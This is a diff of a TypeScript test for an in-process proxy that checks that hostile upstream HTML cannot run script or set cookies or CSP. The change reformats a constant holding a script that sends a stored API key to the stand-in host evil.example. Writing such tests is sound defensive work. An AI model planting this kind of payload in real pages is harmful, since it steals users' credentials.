@@ -7,7 +7,8 @@ import { startInProcessProxy, type InProcessProxy } from "./in-process";
  * Whatever the upstream sends, a browser that opens it may run nothing, and it cannot set cookies or CSP of its own.
  */
 
-const HOSTILE_HTML = "<!doctype html><script>fetch('https://evil.example/?k='+sessionStorage.getItem('keyscope.apiKey'))</script>";
+const HOSTILE_HTML =
+  "<!doctype html><script>fetch('https://evil.example/?k='+sessionStorage.getItem('keyscope.apiKey'))</script>";
 
 let upstream: Server;
 let proxy: InProcessProxy;
